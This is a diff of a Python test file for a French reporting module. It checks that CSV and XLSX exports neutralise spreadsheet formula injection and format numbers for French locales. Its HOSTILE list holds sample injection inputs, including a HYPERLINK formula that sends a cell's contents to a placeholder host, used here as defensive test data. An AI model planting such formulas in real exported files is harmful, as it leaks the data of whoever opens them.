@@ -1,4 +1,5 @@
 """CSV and XLSX tables never hand a formula to the spreadsheet that opens them (offer text reaches them)."""
+
 from __future__ import annotations
 
 import csv
@@ -12,8 +13,15 @@ from openpyxl import load_workbook
 
 from ecarts.reports.tables import read_csv_number, write_csv, write_xlsx
 
-HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)",
-           "\tcmd", "\rligne", "Peinture acrylique = finition"]
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")',
+    "+33 6 12 34 56 78",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tcmd",
+    "\rligne",
+    "Peinture acrylique = finition",
+]
 COLUMNS = ["texte", "n"]
 
 
@@ -26,7 +34,7 @@ def test_csv_cells_that_look_like_formulas_are_written_as_text(tmp_path: Path) -
     with path.open(encoding="utf-8-sig", newline="") as fh:
         got = list(csv.DictReader(fh, delimiter=";"))
     assert [r["texte"] for r in got] == ["'" + t for t in HOSTILE[:-1]] + [HOSTILE[-1]]
-    assert {r["n"] for r in got} == {"-3"}   # a number stays a number
+    assert {r["n"] for r in got} == {"-3"}  # a number stays a number
 
 
 def test_xlsx_cells_that_look_like_formulas_are_strings(tmp_path: Path) -> None:
@@ -40,29 +48,46 @@ def test_xlsx_cells_that_look_like_formulas_are_strings(tmp_path: Path) -> None:
 
 # -- CSV for a spreadsheet set to French -----------------------------------------------------------------
 
-FRENCH_NUMBER = re.compile(r"^-?\d+(,\d+)?$")   # what Excel / LibreOffice in French read as a number
+FRENCH_NUMBER = re.compile(r"^-?\d+(,\d+)?$")  # what Excel / LibreOffice in French read as a number
 
 
 def test_csv_opens_as_numbers_and_accents_in_a_french_spreadsheet(tmp_path: Path) -> None:
     import numpy as np
 
     columns = ["libelle", "part", "score", "n", "ecart", "petit", "decimal", "numpy", "actif", "vide"]
-    row = {"libelle": "Maçonnerie – élingage, « ô » ; œuvre", "part": 0.25, "score": 35.0, "n": 1234,
-           "ecart": -1.5, "petit": 1e-05, "decimal": Decimal("2.50"), "numpy": np.float64(1 / 3), "actif": True,
-           "vide": None}
+    row = {
+        "libelle": "Maçonnerie – élingage, « ô » ; œuvre",
+        "part": 0.25,
+        "score": 35.0,
+        "n": 1234,
+        "ecart": -1.5,
+        "petit": 1e-05,
+        "decimal": Decimal("2.50"),
+        "numpy": np.float64(1 / 3),
+        "actif": True,
+        "vide": None,
+    }
     path = write_csv(tmp_path / "t.csv", columns, [row])
     raw = path.read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf")                      # UTF-8 with a byte-order mark
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
     assert raw.splitlines()[0] == b"\xef\xbb\xbf" + ";".join(columns).encode()
     with path.open(encoding="utf-8-sig", newline="") as fh:
         (got,) = list(csv.DictReader(fh, delimiter=";"))
-    assert got["libelle"] == row["libelle"]                          # accents kept, ; inside a cell quoted
+    assert got["libelle"] == row["libelle"]  # accents kept, ; inside a cell quoted
     cells = {c: got[c] for c in ("part", "score", "n", "ecart", "petit", "decimal", "numpy")}
-    assert cells == {"part": "0,25", "score": "35", "n": "1234", "ecart": "-1,5", "petit": "0,00001",
-                     "decimal": "2,5", "numpy": "0,3333333333"}
+    assert cells == {
+        "part": "0,25",
+        "score": "35",
+        "n": "1234",
+        "ecart": "-1,5",
+        "petit": "0,00001",
+        "decimal": "2,5",
+        "numpy": "0,3333333333",
+    }
     assert all(FRENCH_NUMBER.match(v) for v in cells.values())
     assert {c: read_csv_number(v) for c, v in cells.items()} == pytest.approx(
-        {"part": 0.25, "score": 35, "n": 1234, "ecart": -1.5, "petit": 1e-05, "decimal": 2.5, "numpy": 1 / 3})
+        {"part": 0.25, "score": 35, "n": 1234, "ecart": -1.5, "petit": 1e-05, "decimal": 2.5, "numpy": 1 / 3}
+    )
     assert (got["actif"], got["vide"]) == ("oui", "")
     assert read_csv_number(got["vide"]) is None
 
